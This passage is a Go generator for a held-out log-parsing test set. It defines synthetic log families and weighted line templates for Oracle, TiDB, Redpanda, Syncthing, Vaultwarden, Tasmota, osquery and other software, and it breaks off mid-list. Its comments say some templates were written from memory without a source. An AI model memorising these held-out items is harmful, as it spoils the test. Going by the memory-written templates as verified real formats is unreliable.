package main

import (
	"fmt"
	"strconv"
	"strings"
	"time"
)

// The twelfth held-out families (issue #14, session 19, h94): software
// that neither testdata/logcorpus, the eleven held-out sets nor Loghub-2k
// has, each written from how the program writes its lines (real lines
// quoted in the programs' issue trackers or documentation, cited at each
// family) or, where a family says so, from knowledge of the format without
// a source looked up, for a set written blind: its author read no miner
// code and ran no miner on it. They go to testdata/logholdout12 (go run
// ./cmd/loggen -set holdout12); same truth conventions as the corpus and
// the eleventh set (khanCorrect, one "<*>" per value the program fills in,
// whether empty, one word or several; keys constant and their values
// variables; a message key (TiDB's first bracket, PowerDNS's msg, the
// message before Syncthing's parenthesised attributes) holds the format
// string; what a logger binds per call site (Syncthing's log.pkg,
// PowerDNS's subsystem, level and prio) stays constant like structlog's
// logger and level in the eleventh set; a name or state substituted into a
// fixed sentence is a value; a list written in a loop (Redpanda's replica
// set, osquery's decorations) is one value; the fields of a struct a
// program prints field by field (Redpanda's offsets, Oracle's CONNECT_DATA)
// are each a value and their names constant).
//
//	go run ./cmd/loggen -set holdout12 -out testdata/logholdout12

// holdout12Seed is the twelfth held-out set's seed.
const holdout12Seed = 69

func holdout12Families() []family {
	day := func(g *gen) string {
		return fmt.Sprintf("2026-12-%02d %02d:%02d:%02d", 1+g.r.IntN(28), g.r.IntN(24), g.r.IntN(60), g.r.IntN(60))
	}
	return []family{
		// Oracle Net listener's listener.log (text form): the audit trail
		// "Timestamp * Connect Data [* Protocol Info] * Event [* SID |
		// Service] * Return Code" of Oracle's Net Services Administrator's
		// Guide ("Analyzing Listener Logs", docs.oracle.com, 23ai: the
		// reload and connection examples) and the JDBC thin client's
		// connect data with CID before SERVICE_NAME (quoted in N. Dunbar,
		// "Snorkelling in the Oracle Listener Logs", 2018); the
		// service_update, service_register, service_died and ping events
		// written from knowledge of the format. Only the records that
		// start with a timestamp (the TNS- error lines that follow a
		// failed request have none and are left out).
		{name: "OracleListener", format: `<Date> <Time> \* <Content>`, header: func(g *gen, c string) string {
			return fmt.Sprintf("%02d-DEC-2026 %02d:%02d:%02d * %s", 1+g.r.IntN(28), g.r.IntN(24), g.r.IntN(60), g.r.IntN(60), c)
		}, events: []event{
			{520, `(CONNECT_DATA=(SERVICE_NAME={x12osvc})(CID=(PROGRAM={x12oprog})(HOST={x12ohost})(USER={x12ouser}))) * (ADDRESS=(PROTOCOL={x12oproto})(HOST={ip})(PORT={port})) * establish * {x12osvcsame} * {x12orc}`},
			{380, `(CONNECT_DATA=(CID=(PROGRAM={x12ojdbc})(HOST={pick:__jdbc__})(USER={x12ouser}))(SERVICE_NAME={x12osvc})) * (ADDRESS=(PROTOCOL={x12oproto})(HOST={ip})(PORT={port})) * establish * {x12osvcsame} * {x12orc}`},
			{160, `(CONNECT_DATA=(CID=(PROGRAM={x12oprog})(HOST={x12ohost})(USER={x12ouser}))(SERVER={pick:DEDICATED|DEDICATED|SHARED|POOLED})(SERVICE_NAME={x12osvc})) * (ADDRESS=(PROTOCOL={x12oproto})(HOST={ip})(PORT={port})) * establish * {x12osvcsame} * {x12orc}`},
			{90, `(CONNECT_DATA=(SID={x12osid})(CID=(PROGRAM={x12oprog})(HOST={x12ohost})(USER={x12ouser}))) * (ADDRESS=(PROTOCOL={x12oproto})(HOST={ip})(PORT={port})) * establish * {x12osidsame} * {x12orc}`},
			{560, `service_update * {x12oinst} * 0`},
			{60, `service_register * {x12oinst} * 0`},
			{20, `service_died * {x12oinst} * 12537`},
			{90, `ping * 0`},
			{60, `(CONNECT_DATA=(CID=(PROGRAM={pick:})(HOST={x12ohost})(USER={x12ouser}))(COMMAND={x12ocmd})(ARGUMENTS={pick:64|64|0})(SERVICE={pick:LISTENER|LISTENER|LISTENER_SCAN1})(VERSION={pick:318767104|352321536|385875968})) * {x12ocmdsame} * 0`},
		}},
		// TiDB's server log (pingcap/log, zap's text encoder: "[%Y/%m/%d
		// %H:%M:%S.%03d %z] [LEVEL] [file.go:line] [\"message\"]
		// [key=value]...", a key or value quoted when it holds a space or
		// a special character): "[\"domain closed\"] [\"take time\"=...]"
		// (quoted in pingcap/tidb issue #17521, with PD's and TiKV's
		// lines of the same shape); the connection (conn= and conn_id=
		// both in use, issue #41699), command failure, DDL, schema load,
		// statistics, GC, region cache, lock, expensive query and start-up
		// lines written from knowledge of the format.
		{name: "TiDB", format: `\[<Date> <Time> <Zone>\] \[<Level>\] \[<File>\] <Content>`, header: func(g *gen, c string) string {
			f := pickN(c, [][]string{
				{`"new connection"`, "INFO", "server.go:{}"}, {`"connection closed"`, "INFO", "conn.go:{}"}, {"command dispatched failed", "WARN", "conn.go:{}"},
				{"gc worker", "INFO", "gc_worker.go:{}"}, {"domain closed", "INFO", "domain.go:{}"}, {"InfoSchema", "INFO", "domain.go:{}"},
				{"run DDL job error", "ERROR", "ddl_worker.go:{}"}, {"run DDL job", "INFO", "ddl_worker.go:{}"}, {"DDL job is finished", "INFO", "ddl.go:{}"},
				{"auto analyze", "INFO", "update.go:{}"}, {"need be refill", "INFO", "region_cache.go:{}"}, {"prewrite encounters lock", "INFO", "2pc.go:{}"},
				{"Welcome to TiDB", "INFO", "printer.go:{}"}, {"MySQL protocol", "INFO", "server.go:{}"}, {"expensive_query", "WARN", "expensivequery.go:{}"},
				{"CRUCIAL OPERATION", "INFO", "session.go:{}"}, {"load stats", "WARN", "handle.go:{}"},
			}, "INFO", "session.go:{}")
			return fmt.Sprintf("[2026/12/%02d %02d:%02d:%02d.%03d +00:00] [%s] [%s] %s", 1+g.r.IntN(28), g.r.IntN(24), g.r.IntN(60), g.r.IntN(60), g.r.IntN(1000), f[0],
				strings.Replace(f[1], "{}", strconv.Itoa(100+g.r.IntN(3000)), 1), c)
		}, events: []event{
			{330, `["new connection"] [conn={x12tconn}] [remoteAddr={ipport}]`},
			{310, `["connection closed"] [conn={x12tconn}]`},
			{120, `["command dispatched failed"] [conn={x12tconn}] [session_alias={pick:||||etl-job|dashboard}] [connInfo="{x12tconninfo}"] [command={pick:Query|Query|Execute}] [status="inTxn:{pick:0|1}, autocommit:{pick:1|1|0}"] [sql="{x12tsql}"] [txn_mode={pick:PESSIMISTIC|PESSIMISTIC|OPTIMISTIC}] [timestamp={x12ttso}] [err="{x12terr}"]`},
			{70, `["[gc worker] starts the whole job"] [uuid={x12tgc}] [safePoint={x12ttso}] [concurrency={pick:3|3|8}]`},
			{70, `["[gc worker] finish resolve locks"] [uuid={x12tgc}] [safePoint={x12ttso}] [try-resolve-locks-ts={x12ttso}] [regions={int}]`},
			{15, `["domain closed"] ["take time"={dur}]`},
			{180, `["diff load InfoSchema success"] [currentSchemaVersion={int}] [neededSchemaVersion={int}] ["start time"={dur}] [gotSchemaVersion={int}] [phyTblIDs="[{x12tids}]"] [actionTypes="[{x12tids}]"]`},
			{110, `["[ddl] run DDL job"] [worker="worker {small}, tp {pick:general|add index}"] [job="{x12tjob}"]`},
			{30, `["[ddl] run DDL job error"] [worker="worker {small}, tp {pick:general|add index}"] [error="{x12tddlerr}"]`},
			{100, `["[ddl] DDL job is finished"] [jobID={int}]`},
			{120, `["[stats] auto analyze triggered"] [sql="analyze table ` + "`{db}`.`{table}`" + `"] [reason="too many modifications({int}/{int}>{pick:0.5|0.5|0.8})"]`},
			{110, `["mark store's regions need be refill"] [id={small}] [zone={pick:||zone-a|zone-b}] [addr={x12tstore}] [error="{x12tgrpc}"]`},
			{150, `["prewrite encounters lock"] [session={x12tconn}] [lock="{x12tlock}"]`},
			{100, `[expensive_query] [cost_time={x12tsecs}s] [conn_id={x12tconn}] [user={user}] [database={db}] [txn_start_ts={x12ttso}] [mem_max="{x12tmem}"] [sql="{x12tsql}"]`},
			{90, `["CRUCIAL OPERATION"] [conn={x12tconn}] [schemaVersion={int}] [cur_db={db}] [sql="{x12tddl}"] [user={x12tuserhost}]`},
			{8, `["Welcome to TiDB."] ["Release Version"={x12tver}] [Edition={pick:Community|Community|Enterprise}] ["Git Commit Hash"={x12thash}] ["Git Branch"={x12tbranch}] ["UTC Build Time"="{x12tbuild}"] [GoVersion={pick:go1.21.6|go1.21.10}] ["Race Enabled"=false] ["Check Table Before Drop"=false]`},
			{8, `["server is running MySQL protocol"] [addr={pick:0.0.0.0:4000|0.0.0.0:4000|[::]:4000}]`},
			{25, `["load stats failed"] [table={table}] [error="{x12tgrpc}"]`},
		}},
		// Redpanda's log (Seastar's logger: "%-5s %Y-%m-%d %H:%M:%S,%03d
		// [shard N:group] logger - file.cc:line - message", raft lines with
		// "[group_id:N, {ns/topic/partition}]" before the file):
		// controller_backend's "Stopping Controller Backend..." and
		// "Executing operation: {type: ..., ntp: {...}, offset: ...,
		// assignment: {...}}", consensus's "started raft, log offsets:
		// {...}", vote_stm's "became the leader term:%d", segment's
		// "Creating new segment %s", state_machine's and members_manager's
		// start lines, syschecks' "NOTIFY_SOCKET unset. ignoring STATUS=%s"
		// and segment_set's "Recovered: {offset_tracker:{...}}" (quoted in
		// redpanda-data/redpanda issues #7343, #501 and #2140); the
		// partition balancer status, RPC timeout, vote request, segment
		// removal and start-up lines written from knowledge of the format.
		{name: "Redpanda", format: `<Level> <Date> <Time> \[shard <Shard>\] <Component> - <Content>`, header: func(g *gen, c string) string {
			f := pickN(c, [][]string{
				{"controller_backend.cc:200", "TRACE", "cluster"}, {"controller_backend", "INFO", "cluster"}, {"segment.cc", "INFO", "storage"}, {"disk_log_impl", "INFO", "storage"},
				{"segment_set.cc", "INFO", "storage"}, {"^[group_id", "INFO", "raft"}, {"state_machine", "INFO", "cluster"}, {"members_manager", "INFO", "cluster"},
				{"NOTIFY_SOCKET", "INFO", "syschecks"}, {"partition_balancer", "INFO", "cluster"}, {"RPC timeout", "WARN", "rpc"}, {"Successfully started", "INFO", "main"},
				{"failed authentication", "WARN", "kafka"}, {"Disconnected", "INFO", "kafka"},
			}, "INFO", "cluster")
			if strings.Contains(c, "larger term") {
				f = []string{"WARN", "raft"}
			}
			return fmt.Sprintf("%-5s %s,%03d [shard %d:%s] %s - %s", f[0], day(g), g.r.IntN(1000), g.r.IntN(8), g.pick("main", "main", "main", "raft", "kafk"), f[1], c)
		}, events: []event{
			{20, `controller_backend.cc:268 - Stopping Controller Backend...`},
			{240, `controller_backend.cc:200 - Executing operation: {type: {pick:addition|addition|deletion|update}, ntp: {{x12rntp}}, offset: {int}, assignment: { id: {small}, group_id: {int}, replicas: {{x12rreplicas}} }}`},
			{70, `[group_id:{int}, {{x12rntp}}] consensus.cc:1048 - started raft, log offsets: {start_offset:{int}, committed_offset:{int}, committed_offset_term:{small}, dirty_offset:{int}, dirty_offset_term:{small}, last_term_start_offset:{int}}, term: {small}`},
			{150, `[group_id:{int}, {{x12rntp}}] vote_stm.cc:244 - became the leader term:{small}`},
			{80, `[group_id:{int}, {{x12rntp}}] consensus.cc:{pick:1702|1702|1744} - Received vote request with larger term from node {id: {small}, revision: {int}}, received {small}, current {small}`},
			{330, `segment.cc:629 - Creating new segment {x12rseg}`},
			{110, `disk_log_impl.cc:{pick:1420|1420|1388} - Removing "{x12rseg}" (remove_prefix_full_segments, {offset_tracker:{term:{small}, base_offset:{int}, committed_offset:{int}, dirty_offset:{int}}, compacted_segment={pick:0|0|1}, finished_self_compaction={pick:0|1}, generation={int}, reader={x12rseg}, writer=nullptr})`},
			{60, `segment_set.cc:239 - Recovered: {offset_tracker:{term:{small}, base_offset:{int}, committed_offset:{int}, dirty_offset:{int}}}`},
			{15, `state_machine.cc:29 - Starting state machine`},
			{15, `members_manager.cc:72 - starting cluster::members_manager...`},
			{20, `NOTIFY_SOCKET unset. ignoring STATUS={pick:Starting metadata dissination service|Starting controller|Starting Kafka API server|Starting RPC}`},
			{200, `partition_balancer_backend.cc:{pick:345|345|352} - last status: {pick:ready|ready|in_progress|starting}; violations: unavailable nodes: {small}, full nodes: {small}; nodes to rebalance count: {small}; on demand rebalance requested: {pick:false|false|true}; updates in progress: {small}; action counts: reassignments: {small}, cancellations: {small}, failed: {small}; counts rebalancing finished: {pick:true|true|false}, force refresh health report: {pick:false|false|true}`},
			{120, `transport.cc:{pick:175|175|210} - RPC timeout ({pick:100|500|2000} ms) to {host: {ip}, port: 33145}, method: {x12rmethod}, correlation id: {int}, {small} in flight`},
			{50, `server.cc:{pick:269|269|308} - {ipport} failed authentication: {pick:SASL_AUTHENTICATION_FAILED|Unsupported SASL mechanism|Invalid credentials}`},
			{130, `connection_context.cc:{pick:107|107|119} - Disconnected {ipport} ({pick:Broken pipe|Connection reset by peer|short read|Timer expired})`},
			{10, `application.cc:{pick:398|401} - Successfully started Redpanda!`},
		}},
		// The Buildkite agent's own log on stdout ("%Y-%m-%d %H:%M:%S
		// %-6s [agent name ]message", NOTICE for the health check server):
		// "Registering agent with Buildkite...", "Successfully registered
		// agent \"%s\" with tags [%s]", "Starting %d Agent(s)", "You can
		// press Ctrl-C to stop the agents", "Agents will disconnect after a
		// job run has completed", "Starting HTTP health check server on
		// %s", "%s Connecting to Buildkite...", "%s Waiting for work..."
		// (quoted in bazelbuild/continuous-integration issue #1845),
		// "Assigned job %s. Accepting...", "Starting job %s", "[Process]
		// Process is running with PID: %d", "Process with PID: %d finished
		// with Exit Status: %d, Signal: nil", "Finished job %s" (buildkite/
		// docs issue #286, buildkite/agent issue #1512), "Configuration
		// loaded path=%s", "Registering agent %d of %d with Buildkite..."
		// (buildkite/agent PR #4191); the ping failure, cancellation and
		// shutdown lines written from knowledge of the format.
		{name: "BuildkiteAgent", format: `<Date> <Time> <Level> <Content>`, header: func(g *gen, c string) string {
			f := pickN(c, [][]string{{"health check server", "NOTICE"}, {"Failed to", "WARN"}, {"failed", "ERROR"}, {"Canceling job", "WARN"}, {"forcefully", "WARN"}}, "INFO")
			return fmt.Sprintf("%s %-6s %s", day(g), f[0], c)
		}, events: []event{
			{330, `{x12bagent} Waiting for work...`},
			{40, `{x12bagent} Connecting to Buildkite...`},
			{190, `{x12bagent} Assigned job {uuid}. Accepting...`},
			{190, `{x12bagent} Starting job {uuid}`},
			{60, `{x12bagent} Starting job {uuid} for build at {x12burl}`},
			{180, `{x12bagent} [Process] Process is running with PID: {pid}`},
			{170, `{x12bagent} Process with PID: {pid} finished with Exit Status: {pick:0|0|0|0|1|2|128|-1}, Signal: {pick:nil|nil|nil|nil|SIGTERM|SIGKILL}`},
			{170, `{x12bagent} Finished job {uuid}`},
			{70, `{x12bagent} Failed to ping: {one:POST https://agent.buildkite.com/v3/ping: <pick:503 Service Unavailable|502 Bad Gateway|dial tcp: i/o timeout>} (Attempt {small}/{pick:60|60|10} Retrying in {pick:5s|5s|10s})`},
			{40, `{x12bagent} Canceling job {uuid} with a grace period of {pick:10s|10s|30s}`},
			{20, `{x12bagent} Disconnecting...`},
			{20, `{x12bagent} Disconnected`},
			{20, `Gracefully stopping agent. Since there is no job running, the agent will disconnect immediately`},
			{15, `Received CTRL-C, send again to forcefully kill the agent(s)`},
			{15, `Configuration loaded path={pick:/etc/buildkite-agent/buildkite-agent.cfg|.buildkite-agent.cfg|C:\buildkite-agent\buildkite-agent.cfg}`},
			{12, `Registering agent with Buildkite...`},
			{12, `Registering agent {small} of {small} with Buildkite...`},
			{15, `Successfully registered agent "{x12bagent}" with tags [{x12btags}]`},
			{12, `Starting {small} Agent(s)`},
			{12, `You can press Ctrl-C to stop the agents`},
			{10, `Agents will disconnect after a job run has completed`},
			{10, `Starting HTTP health check server on {pick:0.0.0.0:8080|localhost:8080|:3901}`},
		}},
		// Syncthing 2's log (log/slog text through its own handler:
		// "%Y-%m-%d %H:%M:%S LVL message (key=value ... log.pkg=pkg)", a
		// value quoted when it holds a space or quote, INF WRN ERR DBG):
		// "Established secure connection (device= connection.local=
		// connection.remote= connection.type= connection.lan=
		// connection.crypto= connection.prio= connection.id= ...)", "New
		// device connection (device= address= remote.name= remote.client=
		// remote.version= ...)", "Additional device connection (device=
		// address= count= ...)", "Lost device connection (kind= device=
		// connection= error= remaining= ...)", "Connection closed
		// (device= connection= error= ...)", "Ready to synchronize
		// (folder.id= folder.type= ...)", "Completed initial scan
		// ([folder.label= ]folder.id= folder.type= ...)", "Measured hashing
		// performance (perf= ...)", "QUIC listener starting (address=
		// ...)" (quoted in syncthing/syncthing issue #10372 and
		// researchxxl/syncthing-android issues #361 and #28); the pull
		// failure, index, folder error and listener lines written from
		// knowledge of the format.
		{name: "Syncthing", format: `<Date> <Time> <Level> <Content>`, header: func(g *gen, c string) string {
			f := pickN(c, [][]string{{"Failed", "WRN"}, {"error=", "INF"}, {"Folder is in error", "WRN"}, {"Puller", "WRN"}, {"index update", "DBG"}}, "INF")
			return fmt.Sprintf("%s %s %s", day(g), f[0], c)
		}, events: []event{
			{230, `Established secure connection (device={x12sdev} connection.local={ipport} connection.remote={ipport} connection.type={pick:tcp-client|tcp-server|quic-client|quic-server} connection.lan={pick:true|false} connection.crypto={x12scrypto} connection.prio={pick:10|20|30|40} connection.id={x12sconnid} log.pkg=connections)`},
			{90, `New device connection (device={x12sdev} address={ipport} remote.name={x12sname} remote.client={pick:syncthing|syncthing|syncthing|syncthing-android} remote.version={x12sver} log.pkg=model)`},
			{150, `Additional device connection (device={x12sdev} address={ipport} count={small} log.pkg=model)`},
			{170, `Lost device connection (kind={pick:primary|secondary} device={x12sdev} connection={x12sconn} error={x12serr} remaining={small} log.pkg=model)`},
			{140, `Connection closed (device={x12sdev} connection={x12sconn} error={x12serr} log.pkg=model)`},
			{110, `Ready to synchronize (folder.id={x12sfid} folder.type={x12sftype} log.pkg=model)`},
			{60, `Ready to synchronize (folder.label={x12sflabel} folder.id={x12sfid} folder.type={x12sftype} log.pkg=model)`},
			{110, `Completed initial scan (folder.id={x12sfid} folder.type={x12sftype} log.pkg=model)`},
			{90, `Completed initial scan (folder.label={x12sflabel} folder.id={x12sfid} folder.type={x12sftype} log.pkg=model)`},
			{20, `Measured hashing performance (perf={x12sperf} log.pkg=syncthing)`},
			{25, `{pick:QUIC|TCP} listener starting (address={x12saddr} log.pkg=connections)`},
			{200, `Puller: failed to sync file (folder.id={x12sfid} file={x12sfile} error={x12spullerr} log.pkg=model)`},
			{180, `Device sent an index update (device={x12sdev} folder.id={x12sfid} files={int} sequence={int} log.pkg=model)`},
			{40, `Folder is in error state (folder.label={x12sflabel} folder.id={x12sfid} error={x12sfolderr} log.pkg=model)`},
			{30, `Failed to exchange Hello messages (device={x12sdev} address={ipport} error={x12serr} log.pkg=connections)`},
		}},
		// BIRD 2's log file ("%Y-%m-%d %H:%M:%S.%3f <LEVEL> message"
		// with "timeformat log iso long ms"): "Reconfiguration requested by
		// SIGHUP", "Reconfiguring", "Reconfiguration of BGP listening
		// socket not implemented, please restart BIRD.", "%s: Reconfigured",
		// "Restarting protocol %s", "%s: Shutting down", "%s: State changed
		// to %s", "%s: Initializing" (quoted without the header in
		// projectcalico/calico PR #5279); the BGP error, OSPF neighbour,
		// kernel and start-up lines and the header written from knowledge
		// of the format.
		{name: "Bird", format: `<Date> <Time> \x3c<Level>\x3e <Content>`, header: func(g *gen, c string) string {
			f := pickN(c, [][]string{{"Error:", "RMT"}, {"Received:", "RMT"}, {"not implemented", "WARN"}, {"Netlink:", "ERR"}, {"Connection lost", "RMT"}, {"unreachable", "WARN"}}, "INFO")
			return fmt.Sprintf("%s.%03d <%s> %s", day(g), g.r.IntN(1000), f[0], c)
		}, events: []event{
			{380, `{x12dproto}: State changed to {pick:up|up|down|start|start|stop|feed|flush}`},
			{110, `{x12dproto}: Initializing`},
			{110, `{x12dproto}: Starting`},
			{90, `{x12dproto}: Shutting down`},
			{80, `{x12dproto}: Reconfigured`},
			{60, `Restarting protocol {x12dproto}`},
			{40, `Reconfiguration requested by SIGHUP`},
			{40, `Reconfiguring`},
			{35, `Reconfigured`},
			{15, `Reconfiguration of BGP listening socket not implemented, please restart BIRD.`},
			{90, `{x12dbgp}: Error: {pick:Hold timer expired|Hold timer expired|Bad peer AS: 65010|Unexpected connect from unknown address}`},
			{80, `{x12dbgp}: Received: {pick:Administrative shutdown|Administrative reset|Peer de-configured|Hold timer expired|Connection rejected}`},
			{90, `{x12dbgp}: Connection lost ({pick:Connection reset by peer|Connection timed out|No route to host})`},
			{70, `{x12dbgp}: Connect delayed by {pick:5|5|10} seconds`},
			{130, `{x12dospf}: Neighbor {ip} on {x12diface} changed state from {x12dnbr} to {x12dnbr}`},
			{50, `KRT: Received route {x12dprefix} with unknown ifindex {small}`},
			{60, `Netlink: {pick:File exists|Network is unreachable|No such process|Invalid argument}`},
			{8, `Started`},
			{8, `Shutting down`},
			{8, `Shutdown completed`},
		}},
		// Vaultwarden's log ("[%Y-%m-%d %H:%M:%S.%3f][target][LEVEL]
		// message", fern through Rocket): "[request][INFO] METHOD path",
		// "[response][INFO] (route) METHOD uri => status", "Username or
		// password is incorrect. Try again. IP: %s. Username: %s.", "Error
		// decoding JWT", "Unauthorized Error: Invalid claim", "Request
		// guard `Headers` failed: \"Invalid claim\".", "Rocket has launched
		// from %s", "Private key '%s' created correctly" (quoted in
		// dani-garcia/vaultwarden issues #7135, #5480, #5434, #4059 and
		// Websoft9/docker-library issue #980); the successful login, TOTP,
		// admin token and WebSocket lines written from knowledge of the
		// format.
		{name: "Vaultwarden", format: `\[<Date> <Time>\]\[<Target>\]\[<Level>\] <Content>`, header: func(g *gen, c string) string {
			f := pickN(c, [][]string{
				{"^(", "response", "INFO"}, {"Username or password", "vaultwarden::api::identity", "ERROR"}, {"logged in successfully", "vaultwarden::api::identity", "INFO"},
				{"Invalid TOTP", "vaultwarden::api::core::two_factor::authenticator", "ERROR"}, {"Error decoding JWT", "vaultwarden::auth", "ERROR"},
				{"Unauthorized Error", "auth", "ERROR"}, {"Request guard", "vaultwarden::api::core::ciphers::_", "WARN"}, {"Rocket has launched", "start", "INFO"},
				{"Private key", "vaultwarden::auth", "INFO"}, {"Invalid admin token", "vaultwarden::api::admin", "ERROR"}, {"WS connection", "vaultwarden::api::notifications", "INFO"},
				{"SMTP", "vaultwarden::mail", "ERROR"},
			}, "request", "INFO")
			return fmt.Sprintf("[%s.%03d][%s][%s] %s", day(g), g.r.IntN(1000), f[0], f[1], c)
		}, events: []event{
			{600, `{x12vmethod} {x12vpath}`},
			{600, `({x12vroute}) {x12vmethodsame} {x12vpathsame} => {x12vstatus}`},
			{120, `Username or password is incorrect. Try again. IP: {ip}. Username: {x12vemail}.`},
			{110, `User {x12vemail} logged in successfully. IP: {ip}`},
			{40, `Invalid TOTP code! Server time: {x12vtime} UTC IP: {ip}`},
			{50, `Error decoding JWT`},
			{50, `Unauthorized Error: {pick:Invalid claim|Invalid claim|Token not found|Invalid token}`},
			{50, "Request guard `Headers` failed: \"{pick:Invalid claim|Token not found|Invalid token}\"."},
			{25, `Invalid admin token. IP: {ip}`},
			{140, `Accepting Rocket WS connection from {ip}`},
			{100, `Closing WS connection from {ip}`},
			{20, `Error sending email. SMTP error: {pick:Connection refused (os error 111)|permanent error (535): 5.7.8 Username and Password not accepted|timed out}`},
			{8, `Rocket has launched from {pick:http://0.0.0.0:80|http://0.0.0.0:8080|http://[::]:80}`},
			{5, `Private key '{pick:data/rsa_key.pem|/data/rsa_key.pem}' created correctly`},
		}},
		// Tasmota's console and serial log ("%H:%M:%S.%03d MOD: message",
		// three-letter modules): MQT's "%s = %s" publishes of STATE,
		// SENSOR, RESULT, POWER and LWT with their JSON, "Attempting
		// connection...", "Connected", CMD's "Grp %d, Cmd '%s', Idx %d, Len
		// %d, Pld %d, Data '%s'", RUL's "%s performs \"%s\"", WIF's
		// "Checking connection...", "Attempting connection...",
		// "Connecting to AP%d %s in mode 11N as %s...", "Connected", HTP's
		// "Web server active on %s with IP address %s", APP's "Boot Count
		// %d", CFG's "Saved to flash at %X, Count %d, Bytes %d", I2C's "%s
		// found at 0x%02x" (quoted in arendst/Tasmota issues #18782, #6890
		// and #14295, joBr99/nspanel-lovelace-ui issue #702 and
		// stefanbode/Sonoff-Tasmota issue #99); the MQTT connect failure
		// and the ENERGY and AM2301 sensor payloads written from knowledge
		// of the format. Lines without a module (the "Project tasmota"
		// banner) are left out.
		{name: "Tasmota", format: `<Time> <Module>: <Content>`, header: func(g *gen, c string) string {
			f := pickN(c, [][]string{
				{"^Grp ", "CMD"}, {"performs", "RUL"}, {"Checking connection", "WIF"}, {"Connecting to AP", "WIF"}, {"WiFi", "WIF"},
				{"Web server", "HTP"}, {"Boot Count", "APP"}, {"flash at", "CFG"}, {"found at", "I2C"},
			}, "MQT")
			if c == "Connected" || c == "Attempting connection..." {
				f = []string{g.pick("MQT", "WIF")}
			}
			return fmt.Sprintf("%02d:%02d:%02d.%03d %s: %s", g.r.IntN(24), g.r.IntN(60), g.r.IntN(60), g.r.IntN(1000), f[0], c)
		}, events: []event{
			{260, `tele/{x12mtopic}/STATE = {"Time":"{x12mtime}","Uptime":"{x12mup}","UptimeSec":{int},"Heap":{pick:22|24|26|125|126},"SleepMode":"{pick:Dynamic|Dynamic|Normal}","Sleep":{pick:50|50|10|0},"LoadAvg":{pick:19|20|736|999},"MqttCount":{small},"POWER":"{pick:ON|OFF}","Wifi":{"AP":{pick:1|2},"SSId":"{x12mssid}","BSSId":"{x12mmac}","Channel":{small},"Mode":"{pick:11n|11n|11g}","RSSI":{int},"Signal":-{int},"LinkCount":{small},"Downtime":"{x12mup}"}}`},
			{160, `tele/{x12mtopic}/SENSOR = {"Time":"{x12mtime}","ENERGY":{"TotalStartTime":"{x12mtime}","Total":{x12mkwh},"Yesterday":{x12mkwh},"Today":{x12mkwh},"Period":{small},"Power":{int},"ApparentPower":{int},"ReactivePower":{int},"Factor":{x12mfactor},"Voltage":{pick:229|230|231|232},"Current":{x12mamp}}}`},
			{130, `tele/{x12mtopic}/SENSOR = {"Time":"{x12mtime}","AM2301":{"Temperature":{x12mtemp},"Humidity":{x12mtemp},"DewPoint":{x12mtemp}},"TempUnit":"{pick:C|C|F}"}`},
			{80, `tele/{x12mtopic}/SENSOR = {"Time":"{x12mtime}","DS18B20":{"Id":"{x12mdsid}","Temperature":{x12mtemp}},"TempUnit":"{pick:C|C|F}"}`},
			{200, `stat/{x12mtopic}/RESULT = {"{x12mpower}":"{pick:ON|OFF}"}`},
			{180, `stat/{x12mtopic}/{x12mpower} = {pick:ON|OFF}`},
			{50, `tele/{x12mtopic}/LWT = {pick:Online|Online|Offline} (retained)`},
			{150, `Grp 0, Cmd '{x12mcmd}', Idx {small}, Len {small}, Pld {pick:1|0|-99}, Data '{pick:ON|OFF|1|TOGGLE|}'`},
			{60, `{x12mrule} performs "{x12mbacklog}"`},
			{40, `Attempting connection...`},
			{40, `Connected`},
			{40, `Connect failed to {ip}:1883, rc {pick:-2|-2|5|4}. Retry in {pick:10|10|20|30} sec`},
			{50, `Checking connection...`},
			{30, `Connecting to AP{pick:1|2} {x12mssid} in mode {pick:11N|11N|11G} as {x12mhost}...`},
			{25, `Web server active on {x12mhost} with IP address {ip}`},
			{20, `Boot Count {int}`},
			{60, `Saved to flash at {pick:3F8|3F9|F6|FA}, Count {int}, Bytes 4096`},
			{10, `{pick:BMP280|SHT3X|BH1750|ADS1115} found at 0x{pick:76|44|23|48}`},
		}},
		// osquery's results log (the filesystem logger's
		// osqueryd.results.log, one JSON object a line: name,
		// hostIdentifier, calendarTime, unixTime, epoch, counter, the
		// numerics flag, decorations, columns, action): the differential
		// rows with their columns (quoted in osquery/osquery issue #5999,
		// kolide/launcher PR #279, kolide/fleet issue #841 and wazuh/wazuh
		// PR #1369, whose pack query carries "pack" after "action"); the
		// query names and their columns written from osquery's tables as
		// known (no source looked up for each table). The query's name is
		// a value (a configuration's), the column names constant; the
		// decorations are one value.
		{name: "Osquery", format: `<Content>`, header: func(g *gen, c string) string { return c }, events: []event{
			{320, `{"name":"{x12qname:processes}","hostIdentifier":"{x12qhost}","calendarTime":"{x12qcal}","unixTime":{x12qunix},"epoch":0,"counter":{int},"numerics":false,"decorations":{x12qdec},"columns":{"cmdline":"{x12qcmdline}","name":"{x12qproc}","parent":"{pid}","path":"{x12qpath}","pid":"{pid}","uid":"{x12quid}"},"action":"{x12qaction}"}`},
			{240, `{"name":"{x12qname:listening_ports}","hostIdentifier":"{x12qhost}","calendarTime":"{x12qcal}","unixTime":{x12qunix},"epoch":0,"counter":{int},"numerics":false,"decorations":{x12qdec},"columns":{"address":"{pick:0.0.0.0|::|127.0.0.1}","pid":"{pid}","port":"{port}","protocol":"{pick:6|17}"},"action":"{x12qaction}"}`},
			{200, `{"name":"{x12qname:logged_in_users}","hostIdentifier":"{x12qhost}","calendarTime":"{x12qcal}","unixTime":{x12qunix},"epoch":0,"counter":{int},"numerics":false,"decorations":{x12qdec},"columns":{"host":"{ip}","time":"{x12qunixsame}","tty":"{x12qtty}","type":"{pick:user|user|login}","user":"{user}"},"action":"{x12qaction}"}`},
			{150, `{"name":"{x12qname:file_events}","hostIdentifier":"{x12qhost}","calendarTime":"{x12qcal}","unixTime":{x12qunix},"epoch":0,"counter":{int},"numerics":false,"decorations":{x12qdec},"columns":{"action":"{pick:UPDATED|CREATED|DELETED|ATTRIBUTES_MODIFIED}","category":"{pick:etc|binaries|homes}","md5":"{x12qmd5}","size":"{int}","target_path":"{x12qfile}","time":"{x12qunixsame}","transaction_id":"{int}"},"action":"{pick:added}"}`},
